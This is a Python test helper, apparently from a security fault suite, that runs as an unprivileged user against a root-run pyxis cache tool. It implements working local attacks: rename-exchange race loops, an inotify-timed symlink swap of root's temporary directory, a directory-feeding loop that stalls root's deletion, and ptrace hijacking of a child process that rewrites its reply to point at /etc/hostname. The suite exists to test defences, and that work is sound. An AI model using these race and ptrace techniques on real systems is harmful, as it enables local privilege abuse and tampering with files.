"""A user's tools against root's commands (tests/faults/cases/40-attacks.sh), run as that user.

  attack.py lease SECONDS FILE...        hold a write lease (F_SETLEASE F_WRLCK) on each FILE
  attack.py exchange SECONDS A B [COUNTER]
                                         swap A and B with renameat2(RENAME_EXCHANGE), in a loop;
                                         COUNTER: a file that holds the count of swaps so far
  attack.py staging SECONDS BASE DIR TARGET
                                         when root's staging directory appears in BASE, replace
                                         DIR's temporary directory with a symlink to TARGET
                                         (prints "watching" first, once its inotify watch is set)
  attack.py deep DIR LEVELS              a chain of LEVELS nested directories in DIR
  attack.py feed SECONDS TRASH           keep root's removal of TRASH busy: slot directories, each
                                         filled with empty directories just before root lists it
  attack.py child MODE CLI MARKER        against the SPANK stub's 'CLI reuse' child (tests/faults/stub.bats)

Every loop ends after SECONDS, or at SIGTERM. Prints what it did on stdout, one line.

`child` needs no luck with timing. It watches CLI with inotify, and the cmd/ and lib/ (its folders too) beside it,
and writes MARKER.ready once it does; the child's shell opening CLI is the moment the child
exists (its stdout already slurmstepd's memfd, and a whole Deno start-up still ahead of it),
and each file Deno then loads is another chance to see it. Found by its /proc entry, the
child is then, by MODE:
  stop     SIGSTOPped and left so;
  rewrite  held with ptrace at its exit (PTRACE_O_TRACEEXIT: its reply written, its
           descriptors still open, and no stop its parent's waitpid can see), its reply
           in the memfd replaced with one that names no entry, and let go.
MARKER.seen gets the child's pid once it is found; MARKER gets it once the attack landed, and
MARKER.late instead if the child was ending by the time it was found (a try without its chance).
Ends after the one child, exit 0 if the attack landed.
"""
import ctypes
import fcntl
import mmap
import os
import select
import signal
import struct
import sys
import time

libc = ctypes.CDLL(None, use_errno=True)
AT_FDCWD = -100
RENAME_EXCHANGE = 2
IN_OPEN = 0x20
IN_CREATE = 0x100
IN_CLOEXEC = 0o2000000


def lease(seconds, files):
    # A lease break signals its holder (SIGIO by default, which would end us): keep the lease.
    signal.signal(signal.SIGIO, signal.SIG_IGN)
    fds = []
    for path in files:
        fd = os.open(path, os.O_RDONLY)
        fcntl.fcntl(fd, fcntl.F_SETLEASE, fcntl.F_WRLCK)
        fds.append(fd)
    print(f"leased {len(fds)}", flush=True)
    time.sleep(seconds)


def exchange(seconds, a, b, counter=None):
    # SIGTERM ends the loop as its time would: A and B are left as they were.
    stop = []
    signal.signal(signal.SIGTERM, lambda *_: stop.append(1))
    # COUNTER, if given, holds the number of exchanges so far (8 bytes, native order), for the caller to
    # tell whether any happened while one of its calls ran.
    shared = None
    if counter:
        fd = os.open(counter, os.O_RDWR | os.O_CREAT, 0o644)
        os.ftruncate(fd, 8)
        shared = mmap.mmap(fd, 8)
    end = time.monotonic() + seconds
    n = 0
    ea, eb = os.fsencode(a), os.fsencode(b)
    while not stop and time.monotonic() < end:
        if libc.renameat2(AT_FDCWD, ea, AT_FDCWD, eb, RENAME_EXCHANGE) == 0:
            n += 1
            if shared is not None:
                struct.pack_into("=Q", shared, 0, n)
            if n == 1:
                print("exchanging", flush=True)
    # Leave them as they were.
    if n % 2:
        libc.renameat2(AT_FDCWD, ea, AT_FDCWD, eb, RENAME_EXCHANGE)
    print(f"exchanged {n}")


def staging(seconds, base, dir, target):
    # Woken by the staging directory's creation itself (inotify), not by polling for it.
    inotify = libc.inotify_init1(IN_CLOEXEC)
    if inotify < 0 or libc.inotify_add_watch(inotify, os.fsencode(base), IN_CREATE) < 0:
        sys.exit(f"attack.py: inotify on {base}: {os.strerror(ctypes.get_errno())}")
    print("watching", flush=True)
    end = time.monotonic() + seconds
    seen = 0

    def summary(*_):
        print("no staging seen" if seen == 0 else f"{seen} staging directories seen, no temporary directory swapped")
        sys.exit(0)

    signal.signal(signal.SIGTERM, summary)
    while select.select([inotify], [], [], max(0, end - time.monotonic()))[0]:
        if b".pyxis_cache_staging." not in os.read(inotify, 65536):
            continue
        # The first staging directory makes the temporary directory itself; the record's comes later.
        seen += 1
        for name in os.listdir(dir):
            if name.startswith(".pyxis_cache_tmp."):
                try:
                    os.rename(f"{dir}/{name}", f"{dir}/stolen.{time.monotonic_ns()}")
                    os.symlink(target, f"{dir}/{name}")
                except OSError:
                    continue
                print(f"swapped {name}")
                return
    summary()


def deep(dir, levels):
    os.chdir(dir)
    for _ in range(levels):
        os.mkdir("d")
        os.chdir("d")
    with open("bottom", "w") as f:
        f.write("x")
    print(f"made {levels} levels")


def feed(seconds, top, width=100, fill=10000, ahead=3):
    """Root empties a directory in the order getdents64 gives, slot after slot, and lists a
    slot only when it gets to it: whatever is in a slot by then is part of the same pass. So
    keep the next few slots, in that order, filled with `fill` empty directories each (never
    touching one root may have listed), and make the last slot of each level a new level of
    `width` slots: the pass never ends while this runs."""
    end = time.monotonic() + seconds
    made = 0

    def fill_slot(path):
        nonlocal made
        for j in range(fill):
            os.mkdir(f"{path}/{j}")
        made += fill

    def new_level(path):
        for i in range(width):
            os.mkdir(f"{path}/s{i:03d}")
        order = os.listdir(path)  # the order root's getdents64 gives too
        for name in order[:ahead]:
            fill_slot(f"{path}/{name}")
        return order, set(range(ahead))

    def stop(*_):
        print(f"made {made} directories in {levels} levels", flush=True)
        sys.exit(0)

    signal.signal(signal.SIGTERM, stop)
    levels = 1
    level = top
    order, filled = new_level(level)
    following = None  # the level made in this one's last slot: (path, order, filled)
    print("feeding", flush=True)
    while time.monotonic() < end:
        pos = next((i for i, name in enumerate(order) if os.path.lexists(f"{level}/{name}")), None)
        if pos is None:
            break  # root got through a whole level: it was faster
        if pos == len(order) - 1 and following is not None:
            level, order, filled = following  # root is in the last slot: its slots are next
            following = None
            levels += 1
            continue
        for i in range(pos + 1, min(pos + 1 + ahead, len(order))):
            if i in filled:
                continue
            filled.add(i)
            path = f"{level}/{order[i]}"
            if i == len(order) - 1:
                following = (path, *new_level(path))
            else:
                fill_slot(path)
        time.sleep(0.002)
    stop()


PTRACE_CONT = 7
PTRACE_DETACH = 17
PTRACE_SEIZE = 0x4206
PTRACE_LISTEN = 0x4208
PTRACE_O_TRACEEXIT = 0x40
PTRACE_EVENT_EXIT = 6
PTRACE_EVENT_STOP = 128
WALL = 0x40000000
REPLY = b'{"name":"pyxis_cache_x","path":"noslash","lock":"/etc/hostname","created":false,"seconds":0}\n'


def ptrace(request, pid, addr=0, data=0):
    libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
    if libc.ptrace(request, pid, addr, data) == -1:
        err = ctypes.get_errno()
        raise OSError(err, f"ptrace {request:#x} {pid}: {os.strerror(err)}")


def reuse_child(seen):
    """The pid of our own process whose stdout is the stub's memfd and that runs 'CLI reuse', or None;
    what else of ours it saw goes into seen (for the report of a miss)."""
    me = os.getuid()
    for name in os.listdir("/proc"):
        if not name.isdigit() or int(name) == os.getpid():
            continue
        try:
            if os.stat(f"/proc/{name}").st_uid != me:
                continue
            with open(f"/proc/{name}/cmdline", "rb") as f:
                argv = f.read().split(b"\0")
            stdout = os.readlink(f"/proc/{name}/fd/1")
        except OSError as e:
            seen.append(f"{name}: {e.strerror}")
            continue
        if stdout.startswith("/memfd:pyxis-cache-stdout") and b"reuse" in argv and b"--name-only" in argv:
            return int(name)
        seen.append(f"{name}: {b' '.join(argv[:3]).decode(errors='replace')[-60:]} >{stdout}")
    return None


def write(path, text):
    with open(path + ".tmp", "w") as f:
        f.write(text)
    os.rename(path + ".tmp", path)


class Late(Exception):
    """The child was found too late: it ended before the attack could take hold."""


def stop(pid):
    """SIGSTOPs pid; True once it is seen stopped."""
    os.kill(pid, signal.SIGSTOP)
    # It stops on its way back to user mode, or it was ending already: one or the other comes.
    while True:
        try:
            with open(f"/proc/{pid}/stat") as f:
                state = f.read().rpartition(")")[2].split()[0]
        except (OSError, IndexError):
            state = "X"
        if state in ("T", "t"):
            return True
        if state in ("Z", "X"):
            raise Late(f"the child ended before it stopped (state {state})")
        time.sleep(0.001)


def hold_and_rewrite(pid):
    """Holds pid at its exit and rewrites its reply; True once the rewritten reply is in place."""
    ptrace(PTRACE_SEIZE, pid, 0, PTRACE_O_TRACEEXIT)
    while True:
        _, status = os.waitpid(pid, WALL)
        if not os.WIFSTOPPED(status):
            raise Late(f"the child ended before it was held (status {status:#x})")
        event, sig = status >> 16, os.WSTOPSIG(status)
        if event == PTRACE_EVENT_EXIT:
            break
        if event == PTRACE_EVENT_STOP:
            ptrace(PTRACE_LISTEN, pid)
        else:
            ptrace(PTRACE_CONT, pid, 0, 0 if event else sig)
    try:
        fd = os.open(f"/proc/{pid}/fd/1", os.O_RDWR)
        reply = os.pread(fd, 4096, 0)
        if b"pyxis_cache_u" not in reply:
            print(f"no reply to rewrite: {reply!r}", flush=True)
            return False
        os.ftruncate(fd, 0)
        os.pwrite(fd, REPLY, 0)
        os.close(fd)
        print(f"rewrote {reply.strip().decode(errors='replace')!r}", flush=True)
        return True
    finally:
        ptrace(PTRACE_DETACH, pid)


def child(mode, cli, marker):
    # The command's shell opens CLI; Deno then opens the code beside it, file by file: each open is
    # another look for the child, should the first come too early (mid-exec) or be seen late.
    code = os.path.dirname(os.path.dirname(os.path.realpath(cli)))
    inotify = libc.inotify_init1(IN_CLOEXEC)
    lib = f"{code}/lib"
    folders = [f"{lib}/{name}" for name in sorted(os.listdir(lib)) if os.path.isdir(f"{lib}/{name}")]
    for path in [cli, f"{code}/cmd", lib, *folders]:
        if inotify < 0 or libc.inotify_add_watch(inotify, os.fsencode(path), IN_OPEN) < 0:
            sys.exit(f"attack.py: inotify on {path}: {os.strerror(ctypes.get_errno())}")
    scans = []

    def give_up(*_):
        print(f"no reuse child found after {len(scans)} wake-ups by opens of the command: " + "; ".join(scans), flush=True)
        os._exit(2)

    signal.signal(signal.SIGTERM, give_up)
    write(marker + ".ready", f"{os.getpid()}\n")
    t0 = time.monotonic()
    while True:
        buf, events = os.read(inotify, 65536), 0
        while buf:
            events += 1
            buf = buf[16 + struct.unpack_from("I", buf, 12)[0]:]
        seen = []
        pid = reuse_child(seen)
        scans.append(f"{time.monotonic() - t0:.3f}s {events} events, saw [{', '.join(seen)}]")
        if pid is None:
            continue
        write(marker + ".seen", f"{pid}\n")
        try:
            landed = stop(pid) if mode == "stop" else hold_and_rewrite(pid)
        except Late as e:
            # Seen only as it ended (the event's wake-up came that late): a try that never had its chance.
            print(e, flush=True)
            write(marker + ".late", f"{pid}\n")
            sys.exit(3)
        except OSError as e:
            print(e, flush=True)
            landed = False
        if landed:
            print(f"{'stopped' if mode == 'stop' else 'rewrote the reply of'} {pid}", flush=True)
            write(marker, f"{pid}\n")
        sys.exit(0 if landed else 1)


cmd, args = sys.argv[1], sys.argv[2:]
if cmd == "lease":
    lease(float(args[0]), args[1:])
elif cmd == "exchange":
    exchange(float(args[0]), args[1], args[2], args[3] if len(args) > 3 else None)
elif cmd == "staging":
    staging(float(args[0]), args[1], args[2], args[3])
elif cmd == "feed":
    feed(float(args[0]), args[1])
elif cmd == "child":
    child(args[0], args[1], args[2])
elif cmd == "deep":
    deep(args[0], int(args[1]))
else:
    sys.exit(f"attack.py: unknown command {cmd}")
